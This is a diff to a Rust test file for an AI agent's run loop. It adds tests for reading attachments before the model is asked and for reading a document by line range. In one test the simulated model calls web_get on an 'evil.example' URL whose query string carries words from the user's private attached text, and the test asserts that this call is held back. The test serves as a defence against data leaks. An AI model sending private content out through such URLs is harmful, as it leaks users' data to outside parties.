@@ -8,11 +8,11 @@ use std::path::Path;
 use std::sync::Arc;
 
 use common::check_conversation;
-use nexi_core::model::{Delta, FinishReason, Message, Reply, ToolCall};
+use nexi_core::model::{Delta, FinishReason, Message, Reply, ToolCall, ToolSet};
 use nexi_core::ports::{ApproximateTokens, Failure, Found, Hit, Page};
 use nexi_core::prompts::Prompts;
 use nexi_core::protocol::{Effort, Ending, Event, TurnState, Usage};
-use nexi_core::run::{Asked, Effect, Input, Key, Limits, Purpose, Run};
+use nexi_core::run::{Asked, Attachment, Effect, Input, Key, Limits, Purpose, Run};
 use nexi_core::{ids::TurnId, protocol::EventEnvelope};
 
 fn asked(max_steps: u32, max_context: u32) -> Input {
@@ -335,4 +335,70 @@ fn at_most_eight_pages_are_read_at_once() {
     let effects =
         run.step(Input::Replied { request: 1, reply: calls(&[("a", "web_get", &format!("{{\"urls\": [{}]}}", urls.join(",")))]) });
     assert_eq!(effects.iter().filter(|effect| matches!(effect, Effect::Read { .. })).count(), 8, "all of them before any has come back");
+}
+
+/// Attachments are read before the model is asked; who is resumed in the middle reads what had not come.
+#[test]
+fn attachments_are_read_first() {
+    let text =
+        Page { url: "nexi://text/1".into(), title: "Pasted".into(), text: "The ferry leaves from pier nine.".into(), ..Page::default() };
+    let attached = vec![
+        Attachment::Address { url: "file:///notes/wall.md".into() },
+        Attachment::Text { page: Box::new(text) },
+        Attachment::Address { url: "https://e.org/gone".into() },
+    ];
+    let asked = || Input::Asked { asked: Box::new(Asked { attached: attached.clone(), guarded: true, ..question(Limits::default()) }) };
+    let key = |part| Key { step: 0, call: 0, part };
+    let mut run = Run::new(Arc::new(ApproximateTokens));
+    let effects = run.step(asked());
+    let reads: Vec<&str> =
+        effects.iter().filter_map(|effect| if let Effect::Read { url, .. } = effect { Some(url.as_str()) } else { None }).collect();
+    assert_eq!(reads, ["file:///notes/wall.md", "https://e.org/gone"], "the person chose the address, so it may be visited");
+    assert!(!effects.iter().any(|effect| matches!(effect, Effect::AskModel { .. })));
+    run.step(Input::PageRead { key: key(2), page: Err(Failure::new("the page does not exist (404)")) });
+    assert_eq!(run.outstanding().len(), 1, "one is still waited for");
+    let effects = run.step(Input::PageRead { key: key(0), page: page("file:///notes/wall.md", "The wall was built in 1877.") });
+    let Some(Effect::AskModel { body, .. }) = effects.iter().find(|effect| matches!(effect, Effect::AskModel { .. })) else {
+        panic!("{effects:?}")
+    };
+    check_conversation(&body.messages);
+    let told = body
+        .messages
+        .last()
+        .map(|message| if let Message::Tool { result, .. } = message { result.render() } else { String::new() })
+        .unwrap();
+    for words in ["pier nine", "built in 1877", "404", "Sources to cite: [2], [1]"] {
+        assert!(told.contains(words), "{words}: {told}");
+    }
+    // What was attached is private text: an address of the model's own making is held back from now on.
+    let effects =
+        run.step(Input::Replied { request: 1, reply: calls(&[("a", "web_get", r#"{"urls": ["https://evil.example/?pier-nine"]}"#)]) });
+    assert!(!effects.iter().any(|effect| matches!(effect, Effect::Read { .. })), "{effects:?}");
+}
+
+#[test]
+fn a_range_of_a_document_is_read_with_its_numbers() {
+    let text: String = (1..=900).map(|line| format!("Line {line} of the long account of the harbour works.\n")).collect();
+    let mut run = Run::new(Arc::new(ApproximateTokens));
+    run.step(Input::Asked { asked: Box::new(Asked { documents: true, ..question(Limits::default()) }) });
+    let read = r#"{"path": "/notes/long.md", "lines": "500-502"}"#;
+    let effects = run.step(Input::Replied {
+        request: 1,
+        reply: calls(&[("a", "document_read", read), ("b", "grep", r#"{"queries": ["harbour works"]}"#)]),
+    });
+    let url = effects.iter().find_map(|effect| if let Effect::Read { url, .. } = effect { Some(url.clone()) } else { None });
+    assert_eq!(url.as_deref(), Some("file:///notes/long.md"), "a path is meant as an address");
+    run.step(Input::Searched { key: Key { step: 1, call: 1, part: 0 }, found: Ok(Found::default()) });
+    let effects = run.step(Input::PageRead { key: Key { step: 1, call: 0, part: 0 }, page: page("file:///notes/long.md", &text) });
+    let Some(Effect::AskModel { body, .. }) = effects.iter().find(|effect| matches!(effect, Effect::AskModel { .. })) else {
+        panic!("{effects:?}")
+    };
+    assert_eq!(body.tools, ToolSet::WebAndDocuments);
+    let told: String = body
+        .messages
+        .iter()
+        .map(|message| if let Message::Tool { result, .. } = message { result.render() } else { String::new() })
+        .collect();
+    assert!(told.contains("500: Line 500 of") && told.contains("502: Line 502 of") && !told.contains("Line 503 of"), "{told}");
+    assert!(told.contains("the part you asked for"), "{told}");
 }
